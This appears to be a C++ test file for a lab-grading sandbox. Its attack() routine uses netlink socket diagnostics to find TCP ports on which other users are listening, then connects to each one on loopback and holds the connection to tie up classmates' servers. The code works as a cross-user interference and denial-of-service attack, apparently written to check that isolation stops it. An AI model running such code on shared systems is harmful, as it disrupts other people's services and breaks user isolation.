// Comes as a client to each server that a classmate's check has started, sends, and stays, for ten
// seconds. Those are the listeners of users that lab-grade takes, and none else.
#include "bounded.hpp"

#include <algorithm>
#include <set>
#include <vector>

#include <arpa/inet.h>
#include <linux/inet_diag.h>
#include <linux/netlink.h>
#include <linux/sock_diag.h>
#include <sys/socket.h>

namespace {

/// The ports on which other users of lab-grade listen: sock_diag(7).
std::vector<unsigned> ports_of_others() {
  const int diag = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_SOCK_DIAG);

  struct {
    nlmsghdr head;
    inet_diag_req_v2 request;
  } question{};

  constexpr unsigned listens = 10;
  question.head.nlmsg_len = sizeof question;
  question.head.nlmsg_type = SOCK_DIAG_BY_FAMILY;
  question.head.nlmsg_flags = NLM_F_REQUEST | NLM_F_DUMP;
  question.request.sdiag_family = AF_INET;
  question.request.sdiag_protocol = IPPROTO_TCP;
  question.request.idiag_states = 1U << listens;
  std::vector<unsigned> ports;
  bool more = send(diag, &question, sizeof question, 0) != -1;
  while (more) {
    alignas(nlmsghdr) static char buffer[1 << 16];
    auto left = static_cast<unsigned>(std::max<ssize_t>(recv(diag, buffer, sizeof buffer, 0), 0));
    more = left > 0;
    for (auto* one = reinterpret_cast<nlmsghdr*>(buffer); NLMSG_OK(one, left);
         one = NLMSG_NEXT(one, left)) {
      more = more && one->nlmsg_type == SOCK_DIAG_BY_FAMILY;
      const auto* socket = static_cast<const inet_diag_msg*>(NLMSG_DATA(one));
      if (more && socket->idiag_uid != getuid() && socket->idiag_uid >= 50'000 &&
          socket->idiag_uid <= 59'999) {
        ports.push_back(ntohs(socket->id.idiag_sport));
      }
    }
  }
  close(diag);
  return ports;
}

} // namespace

bool attack() {
  std::set<unsigned> visited;
  for (int round = 0; round < 15'000; ++round) {
    for (const unsigned port : ports_of_others()) {
      if (!visited.insert(port).second) {
        continue;
      }
      for (int i = 0; i < 3; ++i) { // a server of one process has no time for others meanwhile
        const int client = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        sockaddr_in address{};
        address.sin_family = AF_INET;
        address.sin_port = htons(static_cast<in_port_t>(port));
        address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        if (connect(client, reinterpret_cast<const sockaddr*>(&address), sizeof address) == 0) {
          send(client, "not from you\n", 13, MSG_NOSIGNAL);
        }
      }
    }
    usleep(500); // the next look: nothing tells that another program has begun to listen
  }
  return false;
}
